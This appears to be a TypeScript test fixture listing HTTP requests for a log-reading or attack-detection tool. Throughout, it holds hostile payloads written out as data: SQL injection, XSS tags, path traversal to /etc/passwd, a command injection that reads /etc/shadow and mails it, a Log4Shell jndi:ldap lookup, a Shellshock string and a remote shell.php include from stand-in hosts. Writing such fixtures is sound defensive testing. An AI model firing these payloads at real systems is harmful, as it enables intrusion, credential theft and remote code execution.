import {encode} from './script.ts';
import {type Request} from './requests.ts';

/**
Requests of every kind that the log's reader must get right: each attack class, what only warns, what the server refuses by itself,
odd bytes, IPv6 clients, every host.
*/
export function makeFixtureRequests(): Request[] {
	const json = {'Content-Type': 'application/json'};
	return [
		{client: '192.0.2.10', target: '/'},
		{client: '192.0.2.10', target: `/product?id=${encode("17' UNION SELECT card FROM orders-- -")}`},
		{client: '2001:db8::51', target: `/search?q=${encode('<script>alert("fixture")</script>')}&page=2`},
		{client: '203.0.113.30', target: '/download?file=../../../../etc/passwd', host: 'blog.test'},
		{client: '203.0.113.30', target: `/ping?host=${encode('192.0.2.1;cat /etc/shadow|mail')}`, host: 'api.test'},
		{client: '198.51.100.40', target: '/index.php.bak', userAgent: 'Nikto/2.5.0'},
		{client: '198.51.100.41', target: '/health', host: '192.0.2.80'},
		{client: '198.51.100.41', target: '/health', host: ''},
		{client: '198.51.100.42', target: '/static/missing.png'},
		{client: '198.51.100.43', target: '/private/', headers: {Referer: 'https://blog.test/"quoted"'}},
		{client: '192.0.2.11', method: 'POST', target: '/login', body: `name=${encode("admin' OR 1=1#")}&password=x`},
		{
			client: '192.0.2.11',
			method: 'POST',
			target: '/v2/notes',
			host: 'api.test',
			headers: json,
			body: '{"a":"<svg/onload=x()>"}',
		},
		{
			client: '192.0.2.11',
			method: 'POST',
			target: '/v2/notes',
			host: 'api.test',
			headers: json,
			body: '{"a": [1, "unclosed}',
		},
		{client: '2001:db8:0:1::2', method: 'HEAD', target: '/view?page=php://input'},
		{client: '2001:db8:0:1::2', method: 'DELETE', target: '/product?id=17'},
		{client: '192.0.2.12', target: '/', headers: {Cookie: `theme=${encode("x' AND SLEEP(5)-- -")}`}},
		{
			client: '192.0.2.12',
			target: '/basket',
			headers: {Referer: 'https://shop.test/search?q=<script>top.x=1</script>'},
		},
		{client: '192.0.2.13', target: `/?x=${encode('${jndi:ldap://203.0.113.66/a}')}`},
		{client: '192.0.2.13', target: `/?x=${encode('() { :;}; /bin/id')}&y=${encode('<?php phpinfo(); ?>')}`},
		{client: '192.0.2.14', target: `/?text=${encode('Grüße „aus“ Köln <script>ü\u0007\u001B[31m</script>')}`},
		{client: '192.0.2.14', target: '/?raw="quoted"&b=[id%20"1"]&c=<script>d</script>', host: 'www.shop.test'},
		{client: '192.0.2.15', target: `/path%20with%20"quotes"%5D%20and%3Fmark?x=${encode('1 OR 2=2 -- \\')}`},
		{client: '192.0.2.15', target: '//double//slash?file=/proc/self/environ'},
		{client: '203.0.113.31', target: '/?url=http://198.51.100.9/shell.php?'},
		{client: '203.0.113.31', method: 'TRACE', target: '/'},
		{client: '203.0.113.32', target: `/${'long/'.repeat(60)}?q=${encode('<script>long</script>')}`},
		{client: '203.0.113.32', target: `/?q=${encode(`1' OR '1'='1 ${'and so on '.repeat(40)}`)}`},
		{client: '2001:db8:ffff::1', target: '/?session=PHPSESSID&a=%00&b=%u0041'},
	];
}
